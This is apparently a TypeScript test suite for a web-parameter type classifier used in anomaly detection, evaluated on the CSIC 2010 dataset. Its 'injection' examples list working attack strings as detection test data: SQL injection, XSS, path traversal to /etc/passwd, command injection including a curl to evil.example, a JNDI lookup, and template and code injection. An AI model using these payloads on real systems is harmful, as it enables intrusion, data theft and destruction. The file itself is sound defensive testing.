import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, test } from 'node:test';
import { gunzipSync } from 'node:zlib';

import fc from 'fast-check';

import {
  classifyValue,
  DEFAULT_LONG_LENGTH,
  generalizes,
  isParamType,
  isSubtype,
  joinTypes,
  PARAM_TYPES,
  supertypes,
  typeCompatible,
  type ParamType,
} from '../../shared/core/paramTypes';
import { decodeComponent } from '../../shared/core/parse/url';
import { DATA_DIR } from '../support/sharedData';

const EXAMPLES: Record<ParamType, { yes: string[]; no: string[] }> = {
  empty: { yes: [''], no: [' ', '0'] },
  boolean: { yes: ['true', 'FALSE', 'yes', 'No', 'on', 'off'], no: ['1', '0', 'truthy', 't'] },
  integer: { yes: ['0', '42', '-7', '+7', '007', '12345678901234567890'], no: ['4.2', '1e5', '0x1f', '12a', ' 42', '1,000'] },
  decimal: { yes: ['4.2', '-0.5', '.5', '1.', '1e5', '6.02e23', '1.5e+3', '1,5', '1,234,567.89'], no: ['1.2.3', '4', 'e5', '1e'] },
  hex: { yes: ['deadbeef01', 'DEADBEEF01', '0x1F', '5f2b8c1e9a7d4e3f2a1b0c9d', 'a3f5c6d7e8f90123456789abcdef0123'], no: ['deadbeef', '12345678', 'DeadBeef01', 'abc12', 'xyz12345'] },
  uuid: { yes: ['123e4567-e89b-12d3-a456-426614174000', 'F47AC10B-58CC-4372-A567-0E02B2C3D479', '{f47ac10b-58cc-4372-a567-0e02b2c3d479}'], no: ['123e4567-e89b-12d3-a456-42661417400', '123e4567e89b12d3a456426614174000'] },
  date: { yes: ['2024-03-15', '2024/03/15', '15/03/2024', '3/15/2024', '15.03.2024'], no: ['2024-13-45', '15/03/24', '2024-3'] },
  datetime: {
    yes: ['2024-03-15T10:20:30Z', '2024-03-15T10:20:30.123+01:00', '2024-03-15 10:20', '2024-03-15T10:20:30 01:00', '20240315T102030Z', 'Fri, 15 Mar 2024 10:20:30 GMT', '15/03/2024 10:20', '10:20', '10:20:30.5'],
    no: ['2024-03-15T25', 'tomorrow at ten'],
  },
  email: { yes: ['ana@example.com', 'first.last+tag@sub.example.co.uk', 'jürgen@example.de'], no: ['ana@', '@example.com', 'a@b@c.com', 'ana@example', 'ana @example.com'] },
  ipv4: { yes: ['10.0.0.1', '255.255.255.255', '0.0.0.0'], no: ['256.1.1.1', '10.0.0', '10.0.0.01x'] },
  ipv6: { yes: ['2001:db8::1', '::1', 'fe80::1:2:3:4', '::ffff:10.0.0.1'], no: ['2001:db8::g', '12:30', ':::'] },
  url: { yes: ['https://example.com/a?b=c', 'http://10.0.0.1:8080/', 'ftp://files.example.com/x.zip'], no: ['example.com', 'https//example.com', 'javascript:alert(1)'] },
  base64: { yes: ['SGVsbG8gV29ybGQh/w==', 'dGVzdA+/dGVzdA+/dGVzdA==', 'aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ='], no: ['SGVsbG8=', 'abcdefghijklmnop', 'docs/api/v1/user'] },
  alpha: { yes: ['hello', 'Madrid', 'Nuévalos', 'Müller', 'Ελλάδα', '東京'], no: ['hello1', 'hello world', 'o\'brien'] },
  alphanumeric: { yes: ['abc123', '55739537Z', 'user42', 'Zürich2', 'K7x9Q2'], no: ['abc_123', 'abc-123', 'abc 123'] },
  identifier: { yes: ['my-slug', 'snake_case', 'v1.2.3', 'file.name.txt', 'a~b', '-'], no: ['my slug', 'a/b', 'a:b'] },
  text: { yes: ['hello world', 'Calle Mayor 5, 3ºB', 'C/ San Antonio 65 12?A', "O'Brien", 'Rock & Roll', 'a < b', 'price: 5 €', 'line one\nline two', 'dog;cat', 'name|type', 'sort=name;id'], no: ['hello', '<b>x</b>'] },
  long: { yes: ['A'.repeat(DEFAULT_LONG_LENGTH + 1), 'word '.repeat(100), '1'.repeat(300)], no: ['A'.repeat(DEFAULT_LONG_LENGTH)] },
  markup: { yes: ['<b>bold</b>', '<p class="x">hi</p>', 'Fish &amp; Chips', '&#233;t&#233;', '<!DOCTYPE html>'], no: ['a < b > c', 'Fish & Chips'] },
  injection: {
    yes: [
      "1' OR '1'='1",
      "' OR 1=1--",
      '" AND "1"="1',
      "admin'--",
      "'; DROP TABLE users; --",
      '1 UNION SELECT username, password FROM users',
      "1 AND SLEEP(5)",
      "Registrar','0','0','0');waitfor delay '0:0:15';--",
      'Vaciar carritoAND 1=1',
      '<script>alert(1)</script>',
      '<SCRipt>alert(Paros)</scrIPT>',
      '<img src=x onerror=alert(1)>',
      '" onmouseover="alert(1)',
      'javascript:alert(1)',
      '../../etc/passwd',
      '..\\..\\windows\\win.ini',
      '..',
      '/etc/passwd',
      '; cat /etc/passwd',
      '| whoami',
      '`id`',
      '$(curl http://evil.example)',
      '${jndi:ldap://evil.example/a}',
      '{{7*7}}',
      '#{7*7}',
      '<%= 7*7 %>',
      '<!--#include file="secret" -->',
      '<?php system("id"); ?>',
      'a\r\nSet-Cookie: x=1',
      '*)(uid=*))(|(uid=*',
      '{"$where": "sleep(100)"}',
      '85%7C',
      '%2527',
      'registro%3CSCRIPT%3Ealert%28%22Paros%22%29%3B%3C%2FSCRIPT%3E',
      "__import__('os').system('id')",
    ],
    no: ['dog;cat', "O'Brien and Smith", "Rock 'n' Roll", 'select one from the list', 'name;id', '1..5', '50% off', 'the "beta"; then more', 'status="online=1"', 'C:\\Users\\ana\\file.txt'],
  },
  binary: { yes: ['\u0000', 'abc\u0001def', '\u007f', 'a\u0085b'], no: ['tab\there', 'line\nbreak'] },
};

describe('classifyValue', () => {
  for (const [type, { yes, no }] of Object.entries(EXAMPLES) as Array<[ParamType, { yes: string[]; no: string[] }]>) {
    test(`${type}: examples and counter-examples`, () => {
      for (const value of yes) assert.equal(classifyValue(value), type, `${JSON.stringify(value.slice(0, 60))} should be ${type}`);
      for (const value of no) assert.notEqual(classifyValue(value), type, `${JSON.stringify(value.slice(0, 60))} should not be ${type}`);
    });
  }

  test('every type has examples', () => {
    for (const type of PARAM_TYPES) assert.ok(EXAMPLES[type].yes.length > 0, type);
  });

  test('CSIC-style attack values are never integer, alpha or alphanumeric (or any narrow type)', () => {
    const attacks = [
      "1' OR '1'='1",
      '<script>alert(1)</script>',
      '../../etc/passwd',
      '%00',
      '\u0000',
      'A'.repeat(5000),
      '9'.repeat(5000),
      'bob@<SCRipt>alert(Paros)</scrIPT>.parosproxy.org',
      "' DELETE FROM USERS",
      '1328any%3F%0D%0ASet-cookie%3A+Tamper%3D1041264011025374727%0D%0A',
      "'OR'a='a",
      'mcnaughton@queinvento.gg<!--#include file="archivo_secreto" -->',
    ];
    const narrow = new Set<ParamType>(['integer', 'decimal', 'alpha', 'alphanumeric', 'hex', 'boolean', 'identifier', 'uuid', 'email', 'date']);
    for (const value of attacks) {
      const type = classifyValue(value);
      assert.ok(!narrow.has(type), `${JSON.stringify(value.slice(0, 40))} classified ${type}`);
      assert.ok(!typeCompatible(new Set<ParamType>(['integer']), type), `${JSON.stringify(value.slice(0, 40))} accepted where integer is normal`);
      assert.ok(!typeCompatible(new Set<ParamType>(['alphanumeric', 'email']), type), `${JSON.stringify(value.slice(0, 40))} accepted where alphanumeric/email is normal`);
    }
  });

  test('long length is configurable', () => {
    assert.equal(classifyValue('abcdef', 5), 'long');
    assert.equal(classifyValue('abcde', 5), 'alpha');
    assert.equal(classifyValue('<script>xxxxx', 5), 'injection');
  });

  test('stays fast on long adversarial values', () => {
    const inputs = [
      'a'.repeat(100_000),
      `${'a'.repeat(100_000)}!`,
      "'".repeat(100_000),
      "' or ".repeat(20_000),
      '${'.repeat(50_000),
      '{{'.repeat(50_000),
      '<a '.repeat(30_000),
      ';'.repeat(100_000),
      '%25'.repeat(30_000),
      `${'1'.repeat(50_000)}x`,
      `${'a@'.repeat(30_000)}`,
      `${'a.'.repeat(50_000)}`,
      `${'0:'.repeat(30_000)}`,
      `x${' '.repeat(100_000)}x`,
      'union/**/'.repeat(10_000),
    ];
    for (const input of inputs) {
      const started = process.hrtime.bigint();
      classifyValue(input);
      const ms = Number(process.hrtime.bigint() - started) / 1e6;
      assert.ok(ms < 100, `${JSON.stringify(input.slice(0, 20))}… took ${ms} ms`);
    }
  });

  test('throughput: ordinary values classify in microseconds', () => {
    const values = ['42', 'hello', 'abc123', '2024-03-15', 'ana@example.com', 'Calle Mayor 5, 3B', '123e4567-e89b-12d3-a456-426614174000', 'true'];
    const rounds = 20_000;
    const started = process.hrtime.bigint();
    for (let i = 0; i < rounds; i += 1) for (const value of values) classifyValue(value);
    const perValueUs = Number(process.hrtime.bigint() - started) / 1e3 / (rounds * values.length);
    assert.ok(perValueUs < 20, `${perValueUs.toFixed(2)} µs per value`);
  });

  test('never throws and always returns a known type', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (value) => isParamType(classifyValue(value))),
      { numRuns: 3000 },
    );
  });
});

describe('type lattice', () => {
  test('the brief’s cases', () => {
    assert.ok(typeCompatible(new Set<ParamType>(['decimal']), 'integer'));
    assert.ok(typeCompatible(new Set<ParamType>(['alphanumeric']), 'alpha'));
    for (const observed of ['text', 'markup', 'injection', 'long', 'binary', 'alpha', 'decimal'] as const) {
      assert.ok(!typeCompatible(new Set<ParamType>(['integer']), observed), observed);
    }
  });

  test('isSubtype is reflexive, transitive and antisymmetric', () => {
    for (const a of PARAM_TYPES) {
      assert.ok(isSubtype(a, a), a);
      for (const b of PARAM_TYPES) {
        if (a !== b && isSubtype(a, b)) assert.ok(!isSubtype(b, a), `${a} ⇄ ${b}`);
        for (const c of PARAM_TYPES) if (isSubtype(a, b) && isSubtype(b, c)) assert.ok(isSubtype(a, c), `${a} ≤ ${b} ≤ ${c}`);
      }
    }
  });

  test('binary is the top; every type reaches it', () => {
    for (const type of PARAM_TYPES) assert.ok(isSubtype(type, 'binary'), type);
  });

  test('specific relations', () => {
    const holds: Array<[ParamType, ParamType]> = [
      ['boolean', 'alpha'],
      ['integer', 'alphanumeric'],
      ['hex', 'alphanumeric'],
      ['hex', 'base64'],
      ['uuid', 'identifier'],
      ['date', 'datetime'],
      ['email', 'text'],
      ['url', 'text'],
      ['text', 'long'],
      ['long', 'markup'],
      ['markup', 'injection'],
      ['empty', 'text'],
    ];
    for (const [a, b] of holds) {
      assert.ok(isSubtype(a, b), `${a} ≤ ${b}`);
      assert.ok(generalizes(b, a), `${b} generalizes ${a}`);
    }
    const fails: Array<[ParamType, ParamType]> = [
      ['decimal', 'integer'],
      ['alphanumeric', 'alpha'],
      ['text', 'identifier'],
      ['injection', 'markup'],
      ['markup', 'text'],
      ['long', 'text'],
      ['integer', 'hex'],
      ['uuid', 'hex'],
      ['ipv4', 'identifier'],
      ['email', 'identifier'],
      ['empty', 'integer'],
    ];
    for (const [a, b] of fails) assert.ok(!isSubtype(a, b), `${a} ≰ ${b}`);
  });

  test('typeCompatible with several learned types and an empty set', () => {
    const learned = new Set<ParamType>(['uuid', 'integer']);
    assert.ok(typeCompatible(learned, 'uuid'));
    assert.ok(typeCompatible(learned, 'integer'));
    assert.ok(!typeCompatible(learned, 'alpha'));
    assert.ok(!typeCompatible(new Set<ParamType>(), 'integer'));
    assert.ok(typeCompatible(new Set<ParamType>(['binary']), 'injection'));
  });

  test('joinTypes gives the least upper bounds', () => {
    assert.deepEqual(joinTypes('integer', 'alpha'), ['alphanumeric']);
    assert.deepEqual(joinTypes('integer', 'decimal'), ['decimal']);
    assert.deepEqual(joinTypes('uuid', 'integer'), ['identifier']);
    assert.deepEqual(joinTypes('email', 'integer'), ['text']);
    assert.deepEqual(joinTypes('text', 'injection'), ['injection']);
    assert.ok(supertypes('integer').has('text'));
  });
});

const CSIC = path.join(DATA_DIR, 'csic2010');

interface CsicParam {
  key: string;
  value: string;
}

/** Requests of a CSIC file as (path + parameter name, decoded value) lists. */
function csicRequests(file: string): CsicParam[][] {
  const text = gunzipSync(readFileSync(path.join(CSIC, file))).toString('latin1');
  return text.split(/\r?\n(?=(?:GET|POST|PUT) http)/).map((request) => {
    const firstLine = request.slice(0, request.indexOf('\n') >= 0 ? request.indexOf('\n') : request.length);
    const url = firstLine.split(' ')[1] ?? '';
    const query = url.indexOf('?') >= 0 ? url.slice(url.indexOf('?') + 1) : '';
    const route = (url.indexOf('?') >= 0 ? url.slice(0, url.indexOf('?')) : url).replace(/^https?:\/\/[^/]+/, '');
    const bodyAt = request.search(/\r?\n\r?\n/);
    const body = bodyAt >= 0 ? request.slice(bodyAt).trim() : '';
    const params: CsicParam[] = [];
    for (const part of [query, body]) {
      for (const piece of part.split('&')) {
        if (piece === '') continue;
        const eq = piece.indexOf('=');
        const name = decodeComponent(eq >= 0 ? piece.slice(0, eq) : piece, true);
        const value = eq >= 0 ? decodeComponent(piece.slice(eq + 1), true) : '';
        params.push({ key: `${route} ${name}`, value });
      }
    }
    return params;
  });
}

describe('CSIC 2010 (type lattice with a naive learner: every type seen in training is normal)', { skip: !existsSync(CSIC) && 'no CSIC data' }, () => {
  test('few normal requests get an unseen type; a share of attacks does', () => {
    const learned = new Map<string, Set<ParamType>>();
    for (const request of csicRequests('normalTrafficTraining.txt.gz')) {
      for (const { key, value } of request) {
        const types = learned.get(key) ?? new Set<ParamType>();
        types.add(classifyValue(value));
        learned.set(key, types);
      }
    }
    const score = (file: string): { total: number; flagged: number } => {
      let total = 0;
      let flagged = 0;
      for (const request of csicRequests(file)) {
        total += 1;
        if (request.some(({ key, value }) => learned.has(key) && !typeCompatible(learned.get(key) ?? new Set(), classifyValue(value)))) flagged += 1;
      }
      return { total, flagged };
    };
    const normal = score('normalTrafficTest.txt.gz');
    const attacks = score('anomalousTrafficTest.txt.gz');
    const fpRate = normal.flagged / normal.total;
    const detectionRate = attacks.flagged / attacks.total;
    console.log(
      `CSIC unseen-type: attacks flagged ${attacks.flagged}/${attacks.total} (${(detectionRate * 100).toFixed(1)} %), ` +
        `normal flagged ${normal.flagged}/${normal.total} (${(fpRate * 100).toFixed(3)} %)`,
    );
    // Type alone only sees attacks that change a value's shape (unseen paths and parameters are other detectors' job).
    assert.ok(fpRate <= 0.001, `false-positive rate ${fpRate}`);
    assert.ok(detectionRate >= 0.3, `detection rate ${detectionRate}`);
  });
});
